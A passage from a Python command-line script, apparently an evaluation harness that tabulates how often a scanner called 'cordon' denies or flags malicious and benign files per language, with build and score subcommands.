        ben = [m for m in rows if m["lang"] == lang and m["label"] == "benign" and m["source"] != "guarddog-ok"]
        md = sum(m["verdict"] == "deny" for m in mal)
        mr = sum(m["verdict"] == "review" for m in mal)
        bd = sum(m["verdict"] == "deny" for m in ben)
        br = sum(m["verdict"] == "review" for m in ben)
        summary.append(f"| {lang} | {len(mal)} | {pct(md + mr, len(mal))} | {pct(md, len(mal))} | {len(ben)} | "
                       f"{pct(bd + br, len(ben))} | {pct(bd, len(ben))} |")
    return "\n".join(summary + ["", "Benign excludes the `guarddog-ok` fragments (own row below).", ""] + lines)


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("command", choices=["build", "score", "all"])
    ap.add_argument("--mirror", type=Path, default=Path("/work/.mirror"), help="dir of <owner>+<name>/repo snapshots")
    ap.add_argument("--out", type=Path, default=Path("/work/corpus"), help="work dir outside the repository")
    ap.add_argument("--cordon", help="a built cordon binary (score, all)")
    ap.add_argument("--policy", help="policy name or file passed to cordon (default: cordon's default)")
    ap.add_argument("--batch", type=int, default=400, help="files per cordon invocation")
    a = ap.parse_args()
    a.out.mkdir(parents=True, exist_ok=True)
    if a.command in ("build", "all"):
        build(a.mirror, a.out)
    if a.command in ("score", "all"):
        if not a.cordon:
            ap.error("--cordon is needed to score")
        score(a.cordon, a.out, a.batch, a.policy)


if __name__ == "__main__":
    main()
